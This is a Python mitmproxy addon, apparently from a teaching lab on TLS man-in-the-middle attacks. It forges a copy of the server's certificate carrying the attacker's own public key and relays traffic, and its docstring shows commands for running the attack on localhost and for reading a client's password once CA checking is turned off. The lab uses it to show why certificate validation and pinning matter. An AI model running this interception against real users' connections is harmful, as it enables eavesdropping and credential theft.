"""pubkey-swap: replace the server's public key with the attacker's own, relay both ways, read everything.

The story's first attack on public-key encryption (seed 001 §4.2.4, seed 003 "公钥传输"): the client
encrypts the pre-master under whatever key arrives. The attacker copies the real certificate as it
passes and swaps in its own key: same subject, issuer and dates, but the CA's signature no longer
holds. `ca_trust` refuses it; `pinning` does too, once a pin exists.

    mitmdump -s addons/pubkey_swap.py --mode reverse:tcp://127.0.0.1:4433@4434 --set lab_state_dir=state
    mitmlab client --connect 127.0.0.1:4434 balance                  # refused by ca_trust
    mitmlab client --connect 127.0.0.1:4434 --no-ca-trust balance    # the attacker reads the password
"""

import functools

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa

from lab.mitm.relay import RelayAttack
from lab.pki.authority import Leaf, new_rsa_key
from lab.state import StateDir


def with_public_key(real: x509.Certificate, key: rsa.RSAPrivateKey) -> x509.Certificate:
    """The real certificate, field for field, but carrying `key`: signed by no one the client trusts."""
    builder = (
        x509.CertificateBuilder()
        .subject_name(real.subject)
        .issuer_name(real.issuer)
        .serial_number(real.serial_number)
        .not_valid_before(real.not_valid_before_utc)
        .not_valid_after(real.not_valid_after_utc)
        .public_key(key.public_key())
    )
    for extension in real.extensions:
        builder = builder.add_extension(extension.value, extension.critical)
    return builder.sign(key, hashes.SHA256())


@functools.cache
def own_key() -> rsa.RSAPrivateKey:
    """The attacker's own key, made once per attacker process: an RSA-2048 key takes 30-300 ms to make,
    and the addon is loaded afresh for every run (about 2.7 s of a check's lane time)."""
    return new_rsa_key()


class PubkeySwap(RelayAttack):
    def forged_leaf(self, state: StateDir, real_chain: list[x509.Certificate]) -> Leaf:
        forged = with_public_key(real_chain[0], own_key())
        return Leaf(forged, own_key(), (forged,))


addons = [PubkeySwap("pubkey-swap")]
